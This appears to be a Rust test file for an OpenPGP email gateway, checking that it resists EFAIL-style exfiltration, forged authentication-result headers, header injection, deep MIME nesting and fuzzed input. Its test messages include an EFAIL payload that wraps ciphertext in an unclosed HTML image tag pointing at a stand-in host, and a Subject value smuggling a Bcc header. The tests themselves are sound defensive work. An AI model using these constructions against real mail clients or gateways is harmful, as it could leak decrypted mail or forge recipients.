//! Attacks on the gateway itself: EFAIL exfiltration, forged result fields, deep nesting,
//! and arbitrary input.

use rand::{Rng, SeedableRng};

use super::*;

const SECRET: &[u8] = b"EXFILTRATE-ME-4242";

#[test]
fn efail_ciphertext_between_html_parts_is_never_decrypted() {
    let w = World::new();
    let mut payload = b"Content-Type: text/plain\r\n\r\n".to_vec();
    payload.extend_from_slice(SECRET);
    let data = encrypt(
        &payload,
        &[&w.bob],
        How {
            armor: true,
            ..How::default()
        },
    );
    let enc = pgp_mime("", &data);
    let mut m = format!("{OUTER}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--efail\r\n").into_bytes();
    m.extend_from_slice(&enc);
    m.extend_from_slice(b"\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n");
    let o = w.open_bob(&m);
    assert_verdict(&o, "none", "nested-ignored", "none");
    assert_eq!(pgp(&o), "none");
    assert!(!contains(&o.message, SECRET));
    assert_eq!(body(&o.message), body(&m));
    let (ar, _) = ours(&o.message);
    assert!(ar.contains("policy.encrypted=no"), "{ar}");

    // Armored ciphertext in an HTML part, and in an attached message.
    let mut html = format!("{OUTER}Content-Type: text/html\r\n\r\n<pre>\r\n").into_bytes();
    html.extend_from_slice(&data);
    html.extend_from_slice(b"</pre>\r\n");
    let mut attached = format!("{OUTER}Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: message/rfc822\r\n\r\nFrom: x@example.org\r\nSubject: fwd\r\n\r\n").into_bytes();
    attached.extend_from_slice(&data);
    attached.extend_from_slice(b"\r\n--a--\r\n");
    for m in [html, attached] {
        let o = w.open_bob(&m);
        assert_verdict(&o, "none", "nested-ignored", "none");
        assert!(!contains(&o.message, SECRET));
    }
}

#[test]
fn forged_results_are_removed_outside_and_inside() {
    let w = World::new();
    let forged = "authentication-results: (trust me)\r\n GW.EXAMPLE.NET;\r\n\tpgp=pass header.from=alice@example.org\r\nAuthentication-Results: mx.example.org; spf=pass\r\nx-sealpost-verdict: signature=valid;\r\n encryption=decrypted\r\nX-Sealpost-Protected-Subject: forged\r\n";
    let payload = format!("Content-Type: text/plain; charset=us-ascii; hp=\"cipher\"\r\n{forged}Subject: inner\r\n\r\nbody\r\n");
    // Signed by a stranger: the fields inside are kept apart, and ours are still gone.
    let data = encrypt(
        payload.as_bytes(),
        &[&w.bob],
        How {
            signer: Some(&w.mallory),
            armor: true,
            ..How::default()
        },
    );
    let outer = format!("{forged}{OUTER}");
    let o = w.open_bob(&pgp_mime(&outer, &data));
    assert_verdict(&o, "from-mismatch", "decrypted", "kept-apart");
    let text = String::from_utf8(o.message.clone()).unwrap();
    let lower = text.to_ascii_lowercase();
    assert_eq!(lower.matches("x-sealpost-verdict:").count(), 1, "{text}");
    assert_eq!(
        lower
            .matches("authentication-results: gw.example.net;")
            .count(),
        1,
        "{text}"
    );
    assert!(
        !lower.contains("trust me") && !text.contains("forged"),
        "{text}"
    );
    // Someone else's results stay, outside and (kept apart) inside.
    assert!(text.contains("\r\nAuthentication-Results: mx.example.org; spf=pass\r\n"));
    assert!(text
        .contains("\r\nX-Sealpost-Protected-Authentication-Results: mx.example.org; spf=pass\r\n"));
    assert!(text.contains("\r\nX-Sealpost-Protected-Subject: inner\r\n"));
    // And in a plain message.
    let plain = format!("{forged}{OUTER}\r\nhi\r\n");
    let o = w.open_bob(plain.as_bytes());
    assert_verdict(&o, "none", "none", "none");
    assert!(!String::from_utf8_lossy(&o.message).contains("trust me"));
}

#[test]
fn protected_values_cannot_inject_fields() {
    let w = World::new();
    let payload = "Content-Type: text/plain; hp=\"cipher\"\r\nSubject: a\rBcc: victim@example.net\r\n\r\nbody\r\n";
    let data = encrypt(
        payload.as_bytes(),
        &[&w.bob],
        How {
            armor: true,
            ..How::default()
        },
    );
    let o = w.open_bob(&pgp_mime(OUTER, &data));
    let (fields, _) = headers::split(&o.message);
    assert!(!fields.iter().any(|f| f.is("Bcc")));
    let subject: Vec<String> = fields
        .iter()
        .filter(|f| f.is("X-Sealpost-Protected-Subject"))
        .map(|f| f.value())
        .collect();
    assert_eq!(
        subject,
        ["a Bcc: victim@example.net"],
        "{}",
        String::from_utf8_lossy(&o.message)
    );
}

#[test]
fn deep_nesting_is_no_panic() {
    let w = World::new();
    let mut m = format!("{OUTER}Content-Type: multipart/mixed; boundary=b0\r\n\r\n");
    for i in 0..200 {
        m.push_str(&format!(
            "--b{i}\r\nContent-Type: multipart/mixed; boundary=b{}\r\n\r\n",
            i + 1
        ));
    }
    m.push_str("--b200\r\nContent-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\nx\r\n-----END PGP MESSAGE-----\r\n");
    for i in (0..=200).rev() {
        m.push_str(&format!("--b{i}--\r\n"));
    }
    let o = w.open_bob(m.as_bytes());
    assert_eq!(body(&o.message), body(m.as_bytes()));
    assert_eq!(
        o.verdict.signature,
        crate::transform::inbound::Signature::None
    );
    // Inside an encrypted payload, too.
    let data = encrypt(
        &m.as_bytes()[OUTER.len()..],
        &[&w.bob],
        How {
            armor: true,
            ..How::default()
        },
    );
    let o = w.open_bob(&pgp_mime(OUTER, &data));
    assert_verdict(&o, "none", "decrypted", "none");
}

#[test]
fn arbitrary_bytes_never_panic() {
    let w = World::new();
    let payload = b"Content-Type: text/plain; hp=\"cipher\"\r\nSubject: s\r\n\r\nx\r\n";
    let data = w.alice_to_bob(payload);
    let seeds: Vec<Vec<u8>> = vec![
        pgp_mime(OUTER, &data),
        multipart_signed(OUTER, b"Content-Type: text/plain\r\n\r\nx\r\n", &w.alice),
        [format!("{OUTER}\r\n").into_bytes(), cleartext(b"x\n", &w.alice)].concat(),
        b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"\"\r\n\r\n--\r\n".to_vec(),
        b"\r\n".to_vec(),
        Vec::new(),
    ];
    let mut rng = rand::rngs::StdRng::seed_from_u64(9788);
    for seed in &seeds {
        for cut in (0..seed.len()).step_by(seed.len() / 40 + 1) {
            let _ = w.open(&seed[..cut], &["bob@example.net"]);
        }
        for _ in 0..60 {
            let mut m = seed.clone();
            for _ in 0..rng.gen_range(1..8) {
                if m.is_empty() {
                    break;
                }
                let i = rng.gen_range(0..m.len());
                m[i] = rng.gen();
            }
            let out = w.open(&m, &["bob@example.net", "carol@example.net"]);
            assert!(!out.is_empty());
            for o in out {
                ours(&o.message);
            }
        }
    }
    for _ in 0..200 {
        let len = rng.gen_range(0..2000);
        let m: Vec<u8> = (0..len).map(|_| rng.gen()).collect();
        let _ = w.open(&m, &["bob@example.net"]);
    }
}

#[test]
fn every_truncation_and_byte_flip_of_the_binary_never_panics() {
    // The fast armor path hands sequoia binary data; every cut and flipped byte of it
    // must still give a verdict, never a panic, and never the plaintext.
    let w = World::new();
    let payload = b"Content-Type: text/plain\r\n\r\nEXFILTRATE-ME-4242\r\n";
    let armored = w.alice_to_bob(payload);
    let binary = super::super::armor::dearmor(&armored).unwrap();
    let mut variants: Vec<Vec<u8>> = (0..binary.len()).map(|c| binary[..c].to_vec()).collect();
    for i in 0..binary.len() {
        for x in [0x01u8, 0x80, 0xff] {
            let mut b = binary.clone();
            b[i] ^= x;
            variants.push(b);
        }
    }
    for v in variants {
        let out = w.open(&pgp_mime(OUTER, &armor(&v)), &["bob@example.net"]);
        assert_eq!(out.len(), 1);
        if out[0].verdict.encryption != super::super::Encryption::Decrypted {
            assert!(!out[0].message.windows(SECRET.len()).any(|w| w == SECRET));
        }
    }
}
